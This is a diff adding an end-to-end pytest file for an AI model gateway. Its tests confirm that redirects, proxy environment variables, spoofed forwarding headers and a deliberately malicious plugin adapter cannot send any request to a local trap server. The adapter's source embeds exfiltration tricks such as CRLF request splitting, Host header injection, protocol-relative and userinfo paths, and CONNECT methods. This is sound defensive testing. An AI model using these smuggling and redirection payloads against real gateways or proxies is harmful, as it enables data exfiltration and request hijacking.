@@ -1,0 +1,175 @@
+"""Attempts to get one byte out, against the real server: environment, headers, redirects, and a malicious adapter."""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from textwrap import dedent
+from typing import Any
+
+import httpx
+import pytest
+
+from providers.simulator.scenario import Redirect, Scenario
+from providers.simulator.server import SimulatorThread
+from tests.e2e.conftest import KEYS, SITES
+from tests.e2e.servers import APP_KEY, running_gateway, world_config
+from tests.e2e.test_journey import CHAT, body
+
+
+class Trap:
+    """A server where nothing may arrive."""
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        trap = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                trap.requests.append(self.path)
+                self.send_response(200)
+                self.end_headers()
+
+            do_GET = do_CONNECT = do_POST
+
+            def log_message(self, *_: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+
+
+@pytest.fixture
+def trap() -> Iterator[Trap]:
+    trap = Trap()
+    thread = threading.Thread(target=trap.server.serve_forever, daemon=True)
+    thread.start()
+    yield trap
+    trap.server.shutdown()
+    trap.server.server_close()
+    thread.join()
+
+
+@contextmanager
+def client_of(url: str) -> Iterator[httpx.Client]:
+    with httpx.Client(
+        base_url=url, headers={"authorization": f"Bearer {APP_KEY}"}, trust_env=False, timeout=30
+    ) as client:
+        yield client
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("territory", ["CN", "DE", "JP"])
+def test_a_redirect_takes_nothing_along(
+    client: httpx.Client, providers: SimulatorThread, trap: Trap, territory: str, stream: bool
+) -> None:
+    for site in SITES:
+        providers[site].scenario = Scenario(faults=((Redirect(f"{trap.url}/stolen"), 1.0),))
+    response = client.post(CHAT, json=body(stream=stream), headers={"cf-ipcountry": territory})
+    assert (response.status_code, response.json()["error"]["code"]) == (502, "provider_error")
+    assert trap.requests == []
+
+
+def test_the_environment_chooses_neither_proxy_nor_peer(providers: SimulatorThread, trap: Trap, tmp_path: Path) -> None:
+    environ = dict.fromkeys(("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"), trap.url)
+    environ |= {"FORWARDED_ALLOW_IPS": "*", "NO_PROXY": "", "no_proxy": ""}
+    for site in SITES:
+        providers[site].scenario = Scenario()
+    config = world_config(tmp_path, {name: providers[name].origin for name in SITES})
+    config.write_text(config.read_text().replace("from: [127.0.0.0/8]", "from: [10.9.9.9/32]"))
+    with running_gateway(config, {**KEYS, **environ}) as gateway, client_of(gateway.url) as client:
+        spoofed = {"x-forwarded-for": "10.9.9.9", "forwarded": "for=10.9.9.9", "cf-ipcountry": "CN"}
+        response = client.post(CHAT, json=body(), headers=spoofed)
+        assert (response.status_code, response.json()["error"]["code"]) == (451, "region_unknown")
+        config.write_text(config.read_text())
+    config = world_config(tmp_path, {name: providers[name].origin for name in SITES})
+    with running_gateway(config, {**KEYS, **environ}) as gateway, client_of(gateway.url) as client:
+        response = client.post(CHAT, json=body(), headers={"cf-ipcountry": "CN"})
+        assert response.headers["x-gateway-deployment"] == "qwen-cn"
+    assert trap.requests == []
+
+
+def test_a_gateway_without_keys_serves_its_own_machine_only(providers: SimulatorThread, tmp_path: Path) -> None:
+    config = world_config(tmp_path, {name: providers[name].origin for name in SITES})
+    text = config.read_text()
+    start, end = text.index("clients:"), text.index("location:")
+    config.write_text(text[:start] + text[end:].replace("edges:", "unknown: eu\n  edges:"))
+    with running_gateway(config, KEYS) as gateway, httpx.Client(base_url=gateway.url, trust_env=False) as client:
+        assert client.post(CHAT, json=body()).headers["x-gateway-deployment"] == "chatgpt-eu"
+        for header in ("x-forwarded-for", "forwarded", "cf-ipcountry", "x-real-ip", "cf-connecting-ip"):
+            response = client.post(CHAT, json=body(), headers={header: "CN"})
+            assert (response.status_code, response.json()["error"]["code"]) == (403, "permission_denied")
+
+
+EVIL = """
+from dataclasses import dataclass, replace
+from providers.adapter import WireRequest
+from providers.adapters.openai import ADAPTER as HONEST
+
+TRAP = {trap!r}
+HOST = TRAP.removeprefix("http://")
+
+@dataclass(frozen=True)
+class Evil:
+    name = "evil"
+    capabilities = HONEST.capabilities
+    sites = {{}}
+    auth = HONEST.auth
+    parse_response = HONEST.parse_response
+    stream_parser = HONEST.stream_parser
+    classify_error = HONEST.classify_error
+
+    def build_request(self, request, target):
+        wire = HONEST.build_request(request, target)
+        attack = request.messages[-1].content
+        return {{
+            "absolute": replace(wire, path=TRAP + "/v1/chat/completions"),
+            "slashes": replace(wire, path="//" + HOST + "/v1"),
+            "user": replace(wire, path="@" + HOST + "/v1"),
+            "split": replace(wire, path="/v1 HTTP/1.1\\r\\nHost: " + HOST + "\\r\\n\\r\\nPOST /x"),
+            "host": replace(wire, headers=(*wire.headers, ("Host", HOST))),
+            "header": replace(wire, headers=(*wire.headers, ("x-a", "b\\r\\nHost: " + HOST))),
+            "chunked": replace(wire, headers=(*wire.headers, ("transfer-encoding", "chunked"))),
+            "query": replace(wire, path="/v1?url=" + TRAP),
+            "method": replace(wire, method="CONNECT"),
+        }}[attack]
+
+ADAPTER = Evil()
+"""
+
+
+def test_a_malicious_adapter_gets_nothing_out(providers: SimulatorThread, trap: Trap, tmp_path: Path) -> None:
+    plugin = tmp_path / "plugin"
+    info = plugin / "evil-1.0.dist-info"
+    info.mkdir(parents=True)
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+    (info / "entry_points.txt").write_text("[providers.adapters]\nevil = evil_adapter:ADAPTER\n")
+    (plugin / "evil_adapter.py").write_text(EVIL.format(trap=trap.url))
+    honest = providers["us"]
+    honest.scenario = Scenario()
+    config = tmp_path / "gateway.yaml"
+    config.write_text(
+        dedent(f"""
+        version: 1
+        assistants: {{assistant: {{routes: {{default: [bad]}}}}}}
+        regions: {{default: {{territories: ["*"], boundary: ["*"]}}}}
+        deployments:
+          bad: {{provider: evil, model: m, endpoint: "{honest.origin}/v1", stores: US, processes: US, api_key: "${{KEY_US}}"}}
+        location: {{unknown: default}}
+        """)
+    )
+    before = honest.received
+    attacks = ["absolute", "slashes", "user", "split", "host", "header", "chunked", "query", "method"]
+    with (
+        running_gateway(config, {**KEYS, "PYTHONPATH": str(plugin)}) as gateway,
+        httpx.Client(base_url=gateway.url, trust_env=False) as client,
+    ):
+        for attack in attacks:
+            message = {"model": "assistant", "messages": [{"role": "user", "content": attack}]}
+            response = client.post(CHAT, json=message)
+            assert (response.status_code, response.json()["error"]["code"]) == (500, "internal_error"), attack
+    assert trap.requests == []
+    assert honest.received == before
